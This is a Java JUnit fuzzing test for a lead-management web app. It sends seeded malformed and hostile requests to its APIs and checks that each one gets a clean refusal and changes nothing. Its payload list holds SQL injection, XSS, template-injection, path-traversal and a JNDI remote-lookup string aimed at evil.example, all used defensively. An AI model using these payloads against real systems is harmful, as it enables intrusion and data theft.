package io.nurtureflow.hostile;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.function.Predicate;
import java.util.function.Supplier;
import java.util.stream.Collectors;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.nurtureflow.journey.LeadNurture;
import io.nurtureflow.support.Api;
import io.nurtureflow.support.JourneyDriver;
import io.nurtureflow.support.NurtureflowTest;
import io.nurtureflow.support.WebappSession;
import io.nurtureflow.tracking.TrackingLinks;
import io.nurtureflow.tracking.TrackingTokens;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.identity.User;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Thousands of hostile requests, from a seeded generator, against every endpoint a client can
 * reach: the intake API, the CSV import, lookups, engagement, churns, the do-not-contact list, inbound
 * email, tracking links, Twilio's webhooks and the insights API (anonymous and as a manager).
 * Every answer must be a client error or a harmless success, never 5xx; every refusal from our
 * endpoints must be an RFC 7807 problem whose status matches; and no batch of refused requests
 * may change a row in the tables a client can write to, nor move a journey ({@link StoredState}).
 * {@code -Dfuzz.seed=<n>} repeats a run.
 */
@NurtureflowTest
class FuzzingTest {

	private static final long SEED = Long.getLong("fuzz.seed", 20_250_611L);

	/** The phone of the lead refused requests aim at. */
	private static final String TARGET_PHONE = "+12025550199";

	private static final ObjectMapper JSON = new ObjectMapper();

	private static final String PASSWORD = "fuzzing manager password";

	/** Text a hostile client tries: injections, other scripts, control and odd characters, numbers as text. */
	private static final List<String> NASTY = List.of("' OR 1=1; DROP TABLE lead;--", "\"; DELETE FROM suppression; --",
			"1' UNION SELECT PASSWORD_ FROM ACT_ID_USER--", "admin'--", "%' OR '%'='", "1; SHUTDOWN",
			"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</textarea><svg/onload=alert(1)>",
			"javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/x}", "%s%s%s%n%x",
			"../../../../etc/passwd", "..\\..\\windows\\win.ini", "مرحبا بالعالم", "你好，世界", "こんにちは", "안녕하세요",
			"Ελληνικά", "Кириллица", "👩‍💻🚀🔥", "\u202Eevil\u202C", "zero\u200Bwidth", "e\u0301\u0301\u0301", "\uFEFFbom",
			"\uFFFF\uFFFE", "\uD83D", "null", "undefined", "NaN", "true", "-1", "0", "1e309", "99999999999999999999999999",
			"", " ", "\t", "a\u0000b", "a\u0001b", "a\u007Fb", "a\u0085b", "line\nbreak", "carriage\rreturn", "\\", "\"",
			"'", "`", "\\u0000", "%00", "%2e%2e%2f", "AAAA".repeat(300));

	private static final List<String> CONTROL = List.of("\u0000", "\u0001", "\u0008", "\u000B", "\u001B", "\u007F",
			"\u0085", "\u009F", "\n", "\r");

	private static final List<String> LEAD_FIELDS = List.of("email", "phone", "firstName", "lastName", "company",
			"title", "industry", "companySize", "country", "timeZone", "source", "campaign", "interests", "consent");

	private static final List<String> TEXT_FIELDS = List.of("firstName", "lastName", "company", "title", "industry",
			"source", "campaign", "companySize", "country", "timeZone", "phone");

	/** Sorted: {@code Map.of}'s order changes from one JVM to the next, and a seed must repeat a run. */
	private static final Map<String, Integer> MAX_LENGTH = new java.util.TreeMap<>(Map.ofEntries(Map.entry("email", 254),
			Map.entry("phone", 40), Map.entry("firstName", 100), Map.entry("lastName", 100), Map.entry("company", 200),
			Map.entry("title", 200), Map.entry("industry", 100), Map.entry("companySize", 20), Map.entry("country", 2),
			Map.entry("timeZone", 64), Map.entry("source", 100), Map.entry("campaign", 200)));

	private static final List<String> CSV_COLUMNS = List.of("email", "phone", "firstName", "lastName", "company", "title",
			"industry", "companySize", "country", "timeZone", "source", "campaign", "interests", "consentEmail",
			"consentSms");

	private static final List<String> INSIGHTS = List.of("funnel", "funnel.csv", "speed-to-lead", "speed-to-lead.csv",
			"who-converts", "who-converts.csv", "channels", "channels.csv", "journey-steps", "journey-steps.csv");

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	TrackingLinks links;

	@Autowired
	TrackingTokens tokens;

	@Autowired
	IdentityService identity;

	@Autowired
	RuntimeService runtime;

	@Autowired
	ManagementService management;

	@Autowired
	TaskService tasks;

	@Autowired
	HistoryService history;

	private final HttpClient http = HttpClient.newBuilder()
		.followRedirects(HttpClient.Redirect.NEVER)
		.connectTimeout(Duration.ofSeconds(5))
		.build();

	private final Map<String, Integer> sent = new LinkedHashMap<>();

	/** Wrong answers, grouped by endpoint, fault and status, with the first few examples of each. */
	private final Map<String, List<String>> failures = new LinkedHashMap<>();

	private final Set<String> fuzzedEmails = new HashSet<>();

	private Random random;

	private String base;

	private UUID target;

	private long touch;

	private UUID returning;

	private long resubscription;

	/** A customer whose journey a forged churn would end. */
	private UUID customer;

	private WebappSession manager;

	private int clients;

	private int serial;

	private int snapshots;

	private long snapshotNanos;

	private int snapshotRows;

	@BeforeEach
	void connect() {
		this.base = "http://localhost:" + this.port;
		this.random = new Random(SEED);
	}

	@Test
	void thousandsOfBadRequestsGetClearRefusalsAndChangeNothing() {
		System.out.println("Fuzzing with seed " + SEED + " (repeat with -Dfuzz.seed=" + SEED + ")");
		prepareTarget();
		this.manager = new WebappSession(this.port);
		assertThat(this.manager.login(user("managers"), PASSWORD, "cockpit")).isEqualTo(200);
		long started = System.nanoTime();

		batch("POST /api/leads", 700, this::badLead);
		batch("POST /api/leads/import", 300, this::badCsv);
		batch("GET /api/leads?email=", 200, this::emailLookup);
		batch("/api/leads/{garbage}", 400, this::garbageLeadPath);
		batch("POST /api/leads/{id}/engagements", 250, this::badEngagement);
		batch("POST /api/leads/{id}/churn", 250, this::badChurn);
		batch("/api/suppressions", 250, this::badSuppression);
		batch("POST /api/inbound/email", 200, this::badInboundEmail);
		batch("/t/c|o|u|r/{token}", 400, this::tamperedToken);
		batch("/webhooks/twilio/*", 200, this::forgedWebhook);
		batch("/insights/api (anonymous)", 100, this::anonymousInsights);
		batch("/insights/api (manager)", 200, this::managerInsights);
		batch("credentials, paths, methods, headers", 150, this::oddRequest);

		double seconds = (System.nanoTime() - started) / 1e9;
		int total = this.sent.values().stream().mapToInt(Integer::intValue).sum();
		System.out.printf("Fuzzed %d requests in %.1f s:%n", total, seconds);
		this.sent.forEach((endpoint, count) -> System.out.printf("  %5d  %s%n", count, endpoint));
		System.out.printf("Read what is stored %d times, %d rows, %.0f ms each%n", this.snapshots, this.snapshotRows,
				this.snapshotNanos / 1e6 / this.snapshots);

		List<String> stored = this.fuzzedEmails.stream()
			.filter((email) -> this.jdbc.sql("select count(*) from lead where email = ?")
				.param(email.strip().toLowerCase(Locale.ROOT))
				.query(Long.class)
				.single() > 0)
			.toList();
		assertThat(stored).as("leads stored from refused requests").isEmpty();
		StringBuilder report = new StringBuilder();
		this.failures.forEach((kind, examples) -> {
			report.append(String.format("%n%5d x %s%n", examples.size(), kind));
			examples.stream().limit(3).forEach((example) -> report.append("        ").append(example).append('\n'));
		});
		assertThat(this.failures).as("wrong answers (seed %d):%s", SEED, report).isEmpty();
		assertThat(total).isGreaterThanOrEqualTo(3_000);
	}

	@Test
	void storedTextWithMarkupAndInjectionsComesBackAsTheSameData() throws IOException {
		String email = "'or'1'='1-" + UUID.randomUUID() + "@example.com";
		Map<String, Object> lead = new LinkedHashMap<>();
		lead.put("email", email);
		lead.put("firstName", "<script>alert(1)</script>");
		lead.put("lastName", "مرحبا 你好 👩‍💻");
		lead.put("company", "' OR 1=1; DROP TABLE lead;--");
		lead.put("title", "\"quoted\" \\ back\\slash </script><!--");
		lead.put("industry", "e\u0301 \u202Eevil\u202C & <b>co</b>");
		lead.put("source", "${7*7} {{7*7}} #{7*7}");
		lead.put("campaign", "%s%n\u2028\u2029");
		lead.put("interests", List.of("<img src=x onerror=alert(1)>", "日本語"));
		Api api = new Api(this.port);

		Api.Response created = api.postJson("/api/leads", JSON.writeValueAsString(lead));
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		String id = created.json().get("id").asText();

		for (Api.Response read : List.of(api.get("/api/leads/" + id),
				api.get("/api/leads?email=" + URLEncoder.encode(email, StandardCharsets.UTF_8)))) {
			assertThat(read.status()).isEqualTo(200);
			assertThat(read.header("Content-Type")).startsWith("application/json");
			JsonNode view = read.json();
			for (String field : List.of("email", "firstName", "lastName", "company", "title", "industry", "source",
					"campaign")) {
				assertThat(view.get(field).asText()).as(field).isEqualTo(lead.get(field));
			}
			assertThat(view.get("interests")).extracting(JsonNode::asText)
				.containsExactly("<img src=x onerror=alert(1)>", "日本語");
		}
		Api.Response pushed = api.postJson("/api/leads/" + id + "/engagements",
				"{\"type\":\"CONTENT_DOWNLOADED\",\"detail\":\"<script>alert('x')</script> ' OR 1=1;--\"}");
		assertThat(pushed.status()).as(pushed.body()).isEqualTo(201);

		WebappSession session = new WebappSession(this.port);
		assertThat(session.login(user("managers"), PASSWORD, "cockpit")).isEqualTo(200);
		HttpResponse<String> timeline = session.get("/insights/api/leads/" + id + "/timeline");
		assertThat(timeline.statusCode()).isEqualTo(200);
		assertThat(timeline.headers().firstValue("Content-Type").orElse("")).startsWith("application/json");
		JsonNode entries = JSON.readTree(timeline.body()).get("entries");
		assertThat(entries.findValuesAsText("detail")).contains("<script>alert('x')</script> ' OR 1=1;--");

		assertThat(this.jdbc.sql("select count(*) from lead").query(Long.class).single()).isPositive();
	}

	// what each batch sends

	private Req badLead() {
		Map<String, Object> lead = new LinkedHashMap<>();
		String email = "fuzz-" + (++this.serial) + "-" + this.random.nextInt(1_000_000) + "@fuzz.invalid";
		lead.put("email", email);
		this.fuzzedEmails.add(email);
		for (int i = this.random.nextInt(6); i > 0; i--) {
			String field = pick(LEAD_FIELDS);
			if (!field.equals("email")) {
				lead.put(field, noise(field));
			}
		}
		List<String> headers = new ArrayList<>(List.of("Content-Type", "application/json"));
		if (this.random.nextInt(5) == 0) {
			headers.addAll(List.of("Idempotency-Key", UUID.randomUUID().toString()));
		}
		byte[] body = null;
		switch (this.random.nextInt(12)) {
			case 0 -> lead.put(unknownField(LEAD_FIELDS), noise("x"));
			case 1 -> badEmail(lead);
			case 2 -> {
				String field = pick(TEXT_FIELDS);
				lead.put(field, "fuzz" + pick(CONTROL) + pick(NASTY).strip() + "x");
			}
			case 3 -> {
				String field = pick(List.copyOf(MAX_LENGTH.keySet()));
				int max = MAX_LENGTH.get(field);
				String value = longText(max + 1 + this.random.nextInt(max * 20));
				if (field.equals("email")) {
					value = value + "@fuzz.invalid";
					this.fuzzedEmails.add(value);
				}
				lead.put(field, value);
			}
			case 4 -> {
				String[][] wrong = { { "country", "ZZ" }, { "country", "XX" }, { "country", "1" }, { "country", "d€" },
						{ "companySize", "huge" }, { "companySize", "10-1" }, { "companySize", "0" },
						{ "timeZone", "Mars/Olympus" }, { "timeZone", "UTC+25" }, { "timeZone", "../../etc/passwd" },
						{ "phone", "call me maybe" }, { "phone", "+" },
						{ "phone", "+999999999999999" } };
				String[] pair = wrong[this.random.nextInt(wrong.length)];
				lead.put(pair[0], pair[1]);
			}
			case 5 -> {
				List<Object> interests = new ArrayList<>();
				switch (this.random.nextInt(4)) {
					case 0 -> {
						for (int i = 0; i < 21 + this.random.nextInt(50); i++) {
							interests.add("interest " + i);
						}
					}
					case 1 -> interests.add(pick(List.of("", " ", "\t")));
					case 2 -> interests.add(longText(101 + this.random.nextInt(1_000)));
					default -> interests.add(List.of("nested"));
				}
				lead.put("interests", (this.random.nextBoolean() || interests.size() > 1) ? interests
						: Map.of("not", "a list"));
			}
			case 6 -> lead.put("consent", pick(List.of("yes", List.of(true), Map.of("email", "maybe"),
					Map.of("email", true, "fax", true), Map.of("email", Map.of()), Map.of("sms", List.of(1)))));
			case 7 -> body = malformedJson(lead);
			case 8 -> body = invalidUtf8(lead);
			case 9 -> headers.set(1, pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
					"application/json; charset=nope", "application/json;charset=UTF-7", "*/*", "multipart/form-data",
					"application/vnd.evil+json", "text/csv")));
			case 10 -> headers.addAll(List.of("Idempotency-Key", pick(List.of("", " ", "has space", "tab\tkey",
					"x".repeat(201), "y".repeat(5_000), "two  spaces", "a b c"))));
			default -> lead.put("company", "x".repeat(256 * 1024 + this.random.nextInt(10_000)));
		}
		if (headers.stream().filter("Idempotency-Key"::equals).count() > 1) {
			// the second key is the bad one; send only that
			int first = headers.indexOf("Idempotency-Key");
			headers.remove(first);
			headers.remove(first);
		}
		return Req.rejected("POST", "/api/leads", headers, (body != null) ? body : json(lead));
	}

	private void badEmail(Map<String, Object> lead) {
		Object email = switch (this.random.nextInt(9)) {
			case 0 -> null;
			case 1 -> "";
			case 2 -> "   ";
			case 3 -> "not-an-email";
			case 4 -> "fuzz@" + this.random.nextInt() + "@fuzz.invalid";
			case 5 -> pick(NASTY) + " @fuzz.invalid";
			case 6 -> "fuzz" + pick(CONTROL) + "x@fuzz.invalid";
			case 7 -> List.of("a@fuzz.invalid");
			default -> Map.of("address", "a@fuzz.invalid");
		};
		if (email == null) {
			lead.remove("email");
		}
		else {
			lead.put("email", email);
			if (email instanceof String text) {
				this.fuzzedEmails.add(text);
			}
		}
	}

	private Req badCsv() {
		List<String> columns = new ArrayList<>(CSV_COLUMNS);
		java.util.Collections.shuffle(columns, this.random);
		List<String> header = columns.stream().map(this::headerVariant).collect(Collectors.toCollection(ArrayList::new));
		StringBuilder csv = new StringBuilder();
		String newline = pick(List.of("\n", "\r\n", "\r"));
		int rows = this.random.nextInt(6);
		List<String> lines = new ArrayList<>();
		for (int r = 0; r < rows; r++) {
			lines.add(badCsvRow(columns));
		}
		String contentType = "text/csv";
		switch (this.random.nextInt(12)) {
			case 0 -> header.add(pick(List.of("password", "' OR 1=1;--", "<script>", "email2", "é-mail", "")));
			case 1 -> header.add(header.get(0).toUpperCase(Locale.ROOT));
			case 2 -> header.removeIf((h) -> h.replaceAll("[\\s_\\-]", "").equalsIgnoreCase("email"));
			case 3 -> csv.append("\uFEFF\uFEFF");
			case 4 -> lines.add(this.random.nextInt(lines.size() + 1), "\"fuzz-unclosed@fuzz.invalid,\"DE" + newline + "x");
			case 5 -> {
				byte[] garbage = new byte[1 + this.random.nextInt(4_000)];
				this.random.nextBytes(garbage);
				return csv(garbage, contentType);
			}
			case 6 -> lines.add("\"" + "z".repeat(100_000 + this.random.nextInt(200_000)) + "\"");
			case 7 -> contentType = pick(List.of("text/csv; charset=bogus", "text/csv; charset=UTF-16",
					"text/csv; charset=ISO-8859-1", "text/plain", "application/json", "text/csv; charset=\"\""));
			case 8 -> {
				header.clear();
				lines.clear();
			}
			case 9 -> lines.replaceAll((line) -> line.replace(",", pick(List.of(";", "\t", "\u0000"))));
			default -> csv.append(this.random.nextBoolean() ? "\uFEFF" : "");
		}
		csv.append(String.join(",", header)).append(newline);
		lines.forEach((line) -> csv.append(line).append(newline));
		return csv(csv.toString().getBytes(StandardCharsets.UTF_8), contentType);
	}

	private Req csv(byte[] body, String contentType) {
		return new Req("POST", "/api/leads/import", List.of("Content-Type", contentType), body, false, (answer) -> {
			if (answer.status() != 200) {
				return answer.status() >= 400;
			}
			JsonNode report = readJson(answer.body());
			return report != null && report.get("created").asInt() == 0 && report.get("duplicates").asInt() == 0;
		});
	}

	private String headerVariant(String column) {
		return switch (this.random.nextInt(4)) {
			case 0 -> column.replaceAll("([A-Z])", " $1");
			case 1 -> column.replaceAll("([A-Z])", "_$1").toLowerCase(Locale.ROOT);
			case 2 -> " " + column.toUpperCase(Locale.ROOT) + " ";
			default -> column;
		};
	}

	/** A row with at least one certain fault, and more noise. */
	private String badCsvRow(List<String> columns) {
		Map<String, String> values = new LinkedHashMap<>();
		String email = "fuzz-csv-" + (++this.serial) + "@fuzz.invalid";
		this.fuzzedEmails.add(email);
		for (String column : columns) {
			values.put(column, this.random.nextInt(4) == 0 ? pick(NASTY) : "");
		}
		values.put("email", email);
		values.put("consentEmail", pick(List.of("", "yes", "no", "1")));
		values.put("consentSms", pick(List.of("", "true", "0")));
		values.put("interests", "");
		values.put("companySize", "");
		values.put("country", "");
		values.put("phone", "");
		values.put("timeZone", "");
		int fault = this.random.nextInt(7);
		switch (fault) {
			case 0 -> values.put("consentEmail", pick(List.of("maybe", "si", "2", "<script>")));
			case 1 -> values.put(pick(List.of("firstName", "company", "title", "source")), "bad" + pick(CONTROL) + "x");
			// a space inside the address: "" + " x@y" would be a valid address once trimmed
			case 2 -> values.put("email", pick(List.of("not-an-email", "a@@fuzz.invalid", "fuzz " + pick(NASTY) + " x@y")));
			case 3 -> values.put("country", pick(List.of("ZZ", "Germany", "1")));
			case 4 -> values.put("lastName", "L".repeat(101 + this.random.nextInt(5_000)));
			case 5 -> values.put("interests", String.join(";", java.util.Collections.nCopies(21, "topic")));
			default -> {
				// a row with fewer or more fields than the header
			}
		}
		List<String> cells = columns.stream().map((c) -> quote(values.get(c))).collect(Collectors.toCollection(ArrayList::new));
		if (fault == 6) {
			if (this.random.nextBoolean() && cells.size() > 1) {
				cells.remove(cells.size() - 1);
			}
			else {
				cells.add("extra");
			}
		}
		return String.join(",", cells);
	}

	private static String quote(String value) {
		if (value.contains(",") || value.contains("\"") || value.contains("\n") || value.contains("\r")) {
			return "\"" + value.replace("\"", "\"\"") + "\"";
		}
		return value;
	}

	private Req emailLookup() {
		String email = switch (this.random.nextInt(5)) {
			case 0 -> "fuzz-" + this.random.nextInt() + "@fuzz.invalid";
			case 1 -> longText(300 + this.random.nextInt(3_000));
			case 2 -> pick(CONTROL) + "x@fuzz.invalid";
			default -> pick(NASTY);
		};
		String query = "email=" + encode(email);
		if (this.random.nextInt(5) == 0) {
			query = pick(List.of("email=%zz", "email=%", "email=%C3%28", "email=a&email=" + encode(pick(NASTY)),
					"mail=" + encode(email), "email", "email[]=x", "=x"));
			return Req.raw("GET", "/api/leads?" + query, List.of(), null);
		}
		return Req.harmless("GET", "/api/leads?" + query, List.of(), null);
	}

	private Req garbageLeadPath() {
		String garbage = switch (this.random.nextInt(6)) {
			case 0 -> UUID.randomUUID().toString();
			case 1 -> "00000000-0000-0000-0000-00000000000g";
			case 2 -> longText(100 + this.random.nextInt(2_000));
			default -> pick(NASTY);
		};
		String segment = encode(garbage);
		String template = pick(List.of("/api/leads/%s", "/api/leads/%s/score", "/api/leads/%s/engagements",
				"/api/leads/%s/disqualify", "/api/leads/%s/%s", "/api/leads/%s/disqualify?reason=%s"));
		String path = template.formatted(segment, encode(pick(NASTY)));
		String method = pick(List.of("GET", "POST", "DELETE", "PUT", "PATCH", "HEAD", "OPTIONS"));
		if (this.random.nextInt(10) == 0) {
			// the real lead, but always with a reason no one may give
			String reason = pick(List.of("r".repeat(501 + this.random.nextInt(10_000)), "bad" + pick(CONTROL) + "reason"));
			return Req.rejected("POST", "/api/leads/" + this.target + "/disqualify?reason=" + encode(reason), List.of(),
					new byte[0]);
		}
		if (this.random.nextInt(10) == 0) {
			String raw = pick(List.of("%", "%zz", "%00", "%2F", "%2e%2e", "..%2F..%2Fengine-rest", ";jsessionid=x", "%C3%28",
					"%u0041", "a b", "\u00e9"));
			return Req.raw(method.equals("HEAD") ? "GET" : method, "/api/leads/" + raw, List.of(), null);
		}
		byte[] body = method.equals("POST") || method.equals("PUT") || method.equals("PATCH")
				? json(Map.of("type", "CONVERTED", "detail", pick(NASTY))) : null;
		List<String> headers = (body != null) ? List.of("Content-Type", "application/json") : List.of();
		return Req.harmless(method, path, headers, body);
	}

	private Req badEngagement() {
		Map<String, Object> engagement = new LinkedHashMap<>();
		engagement.put("type", pick(List.of("CONVERTED", "CONTENT_DOWNLOADED", "SURVEY_ANSWERED", "REPLIED")));
		if (this.random.nextBoolean()) {
			engagement.put("detail", pick(NASTY).replaceAll("\\p{Cntrl}", ""));
		}
		if (this.random.nextBoolean()) {
			engagement.put("eventId", "fuzz-" + this.random.nextInt());
		}
		byte[] body = null;
		List<String> headers = new ArrayList<>(List.of("Content-Type", "application/json"));
		UUID lead = this.target;
		switch (this.random.nextInt(10)) {
			case 0 -> engagement.put("type", pick(List.of("CLICKED", "OPENED", "UNSUBSCRIBED", "SMS_OPTED_OUT",
					"RECONVERSION", "converted", "", "<script>", 42, List.of("CONVERTED"), Map.of())));
			case 1 -> engagement.remove("type");
			case 2 -> engagement.put("detail", "fuzz" + pick(CONTROL) + "x");
			case 3 -> engagement.put("detail", longText(2_001 + this.random.nextInt(50_000)));
			case 4 -> engagement.put("eventId", pick(List.of("has space", "e".repeat(151), "é", "tab\tid")));
			case 5 -> engagement.put("occurredAt", pick(List.of("yesterday", "2024-13-45T00:00:00Z",
					"+1000000000-12-31T23:59:59Z", "-1000000000-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z",
					"9999-12-31T23:59:59Z", "+300000-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "-4713-11-24T00:00:00Z",
					"1969-12-31T23:59:59Z", "1e400", "now", List.of(1, 2), Map.of("epoch", 1))));
			case 6 -> engagement.put(unknownField(List.of("type", "detail", "occurredAt", "eventId")), pick(NASTY));
			case 7 -> body = malformedJson(engagement);
			case 8 -> headers.set(1, pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")));
			default -> {
				// a valid report of an engagement, for a lead that does not exist
				lead = UUID.randomUUID();
			}
		}
		if (this.random.nextInt(20) == 0) {
			engagement.put("occurredAt", pick(List.of(1e300, -1e300, "1e1000000000", Long.MAX_VALUE, Long.MIN_VALUE)));
			engagement.remove("type");
		}
		return Req.rejected("POST", "/api/leads/" + lead + "/engagements", headers, (body != null) ? body : json(engagement));
	}

	/**
	 * What customer success's CRM might send wrong when it records a churn: a reason no one may
	 * give (too long, control characters, given twice) for the real customer, any reason for a lead
	 * that is no customer (409) or none at all (404), an id that is none, another method, a body.
	 */
	private Req badChurn() {
		String reason = "reason=" + encode(pick(List.of("moved to a competitor", pick(NASTY).replaceAll("\\p{Cc}", ""))));
		UUID lead = this.customer;
		String method = "POST";
		byte[] body = null;
		List<String> headers = new ArrayList<>();
		switch (this.random.nextInt(9)) {
			case 0 -> reason = "reason=" + encode("r".repeat(501 + this.random.nextInt(10_000)));
			case 1 -> reason = "reason=" + encode("left" + pick(CONTROL) + pick(NASTY));
			case 2 -> reason = "reason=" + encode("r".repeat(501)) + "&reason=" + encode("too expensive");
			case 3 -> lead = this.target;
			case 4 -> lead = UUID.randomUUID();
			case 5 -> method = pick(List.of("GET", "PUT", "PATCH", "DELETE"));
			case 6 -> {
				String garbage = encode(pick(List.of("00000000-0000-0000-0000-00000000000g", longText(100), pick(NASTY))));
				return Req.rejected("POST", "/api/leads/" + garbage + "/churn?" + reason, headers, null);
			}
			case 7 -> {
				String raw = pick(List.of("reason=%", "reason=%zz", "reason=%C3%28", "reason=a%00b", "reason=%0D%0Aforged"));
				return Req.raw("POST", "/api/leads/" + this.customer + "/churn?" + raw, List.of("Content-Length", "0"), null)
					.expecting((a) -> a.status() >= 400);
			}
			default -> {
				// the reason in a body the endpoint does not read, too long for the query
				reason = "reason=" + encode("r".repeat(501));
				headers.addAll(List.of("Content-Type", pick(List.of("application/json", "application/x-www-form-urlencoded"))));
				body = headers.get(1).endsWith("json") ? json(Map.of("reason", "moved")) : "reason=moved".getBytes(StandardCharsets.UTF_8);
			}
		}
		return Req.rejected(method, "/api/leads/" + lead + "/churn?" + reason, headers, body);
	}

	private Req badSuppression() {
		switch (this.random.nextInt(4)) {
			case 0 -> {
				String address = pick(List.of("+1555fuzz" + this.random.nextInt(), "fuzz-" + this.random.nextInt()
						+ "@fuzz.invalid", pick(NASTY), longText(300)));
				return Req.harmless("DELETE", "/api/suppressions/" + encode(address), List.of(), null);
			}
			case 1 -> {
				return Req.harmless("GET", "/api/suppressions?" + encode(pick(NASTY)) + "=" + encode(pick(NASTY)),
						List.of(), null);
			}
			default -> {
				Map<String, Object> entry = new LinkedHashMap<>();
				entry.put("address", "fuzz-" + this.random.nextInt(1_000_000) + "@fuzz.invalid");
				entry.put("reason", "fuzzing");
				byte[] body = null;
				List<String> headers = new ArrayList<>(List.of("Content-Type", "application/json"));
				switch (this.random.nextInt(9)) {
					case 0 -> entry.put("address", pick(List.of("", " ", "no-at-sign", "a@b@c", "+0123", "+1 555 0100",
							"4155552671", "two words@fuzz.invalid", "fuzz\u0000@fuzz.invalid", longText(250) + "@fuzz.invalid")));
					case 1 -> entry.remove("address");
					case 2 -> entry.put("reason", pick(List.of("", " ", "bad" + pick(CONTROL) + "reason", longText(501))));
					case 3 -> entry.remove("reason");
					case 4 -> entry.put(unknownField(List.of("address", "reason")), pick(NASTY));
					case 5 -> {
						if (this.random.nextBoolean()) {
							entry.put("address", pick(List.of(42, true, List.of("x"), Map.of())));
						}
						else {
							entry.put("reason", pick(List.of(List.of("x"), Map.of("x", 1))));
						}
					}
					case 6 -> body = malformedJson(entry);
					case 7 -> headers.set(1, pick(List.of("text/plain", "application/xml", "text/csv")));
					default -> entry.put("address", "x".repeat(256 * 1024) + "@fuzz.invalid");
				}
				return Req.rejected("POST", "/api/suppressions", headers, (body != null) ? body : json(entry));
			}
		}
	}

	private Req badInboundEmail() {
		Predicate<Answer> nobodyMatched = (answer) -> answer.status() >= 400
				|| (answer.status() == 200 && answer.body().contains("\"leads\":0"));
		String from = switch (this.random.nextInt(5)) {
			case 0 -> "Fuzz <fuzz-" + this.random.nextInt() + "@fuzz.invalid>";
			case 1 -> pick(NASTY);
			case 2 -> "\"" + pick(NASTY) + "\" <" + this.random.nextInt() + "@fuzz.invalid>";
			case 3 -> longText(5_000);
			default -> "";
		};
		Map<String, String> form = new LinkedHashMap<>();
		if (this.random.nextInt(6) != 0) {
			form.put("from", from);
		}
		form.put("subject", pick(NASTY));
		form.put("text", this.random.nextInt(10) == 0 ? longText(100_000) : pick(NASTY));
		if (this.random.nextBoolean()) {
			form.put("Message-Id", pick(List.of("<" + this.random.nextInt() + "@fuzz.invalid>", longText(500), pick(NASTY))));
		}
		switch (this.random.nextInt(6)) {
			case 0 -> {
				String boundary = "fuzz" + this.random.nextInt(1_000_000);
				StringBuilder body = new StringBuilder();
				form.forEach((name, value) -> body.append("--").append(boundary)
					.append("\r\nContent-Disposition: form-data; name=\"").append(name).append("\"\r\n\r\n")
					.append(value).append("\r\n"));
				body.append("--").append(boundary).append("--\r\n");
				String contentType = pick(List.of("multipart/form-data; boundary=" + boundary, "multipart/form-data",
						"multipart/form-data; boundary=other", "multipart/form-data; boundary="));
				byte[] bytes = body.toString().getBytes(StandardCharsets.UTF_8);
				if (this.random.nextBoolean()) {
					bytes = java.util.Arrays.copyOf(bytes, this.random.nextInt(bytes.length));
				}
				return new Req("POST", "/api/inbound/email", List.of("Content-Type", contentType), bytes, false,
						nobodyMatched);
			}
			case 1 -> {
				byte[] garbage = new byte[this.random.nextInt(3_000)];
				this.random.nextBytes(garbage);
				return new Req("POST", "/api/inbound/email", List.of("Content-Type",
						pick(List.of("multipart/form-data; boundary=x", "application/x-www-form-urlencoded"))), garbage,
						false, nobodyMatched);
			}
			case 2 -> {
				return new Req("POST", "/api/inbound/email", List.of("Content-Type", "application/json"), json(form),
						false, nobodyMatched);
			}
			default -> {
				String encoded = form.entrySet()
					.stream()
					.map((e) -> encode(e.getKey()) + "=" + (this.random.nextInt(8) == 0 ? "%zz%" : encode(e.getValue())))
					.collect(Collectors.joining("&"));
				return new Req("POST", "/api/inbound/email",
						List.of("Content-Type", "application/x-www-form-urlencoded"),
						encoded.getBytes(StandardCharsets.UTF_8), false, nobodyMatched);
			}
		}
	}

	private Req tamperedToken() {
		String click = token(this.links.click(this.touch, this.target, "https://nurtureflow.io/resources/fuzz"));
		String open = token(this.links.openPixel(this.touch, this.target));
		String unsubscribe = token(this.links.unsubscribe(this.touch, this.target));
		String resubscribe = token(this.links.resubscribe(this.resubscription, this.returning));
		String kind = pick(List.of("c", "o", "u", "u-post", "r", "r-post"));
		String genuine = switch (this.random.nextInt(4)) {
			case 0 -> click;
			case 1 -> open;
			case 2 -> resubscribe;
			default -> unsubscribe;
		};
		String forged;
		do {
			forged = mutate(genuine, click);
		}
		while (verifiesFor(forged, kind));
		String path = "/t/" + kind.substring(0, 1) + "/" + forged;
		String method = kind.endsWith("-post") ? "POST" : pick(List.of("GET", "GET", "GET", "HEAD", "PUT", "DELETE"));
		byte[] body = method.equals("POST") ? "List-Unsubscribe=One-Click".getBytes(StandardCharsets.US_ASCII) : null;
		List<String> headers = new ArrayList<>(List.of("X-Forwarded-For", client()));
		if (body != null) {
			headers.addAll(List.of("Content-Type", "application/x-www-form-urlencoded"));
		}
		if (!path.chars().allMatch((c) -> c > 0x20 && c < 0x7F && c != '%' && c != '"' && c != '<' && c != '>'
				&& c != '\\' && c != '^' && c != '`' && c != '{' && c != '|' && c != '}')) {
			return Req.raw(method, path, headers, body).expecting((a) -> a.status() >= 400);
		}
		return Req.rejected(method, path, headers, body);
	}

	/** Flips, drops, adds, cuts and swaps characters; or re-uses a signature on another payload. */
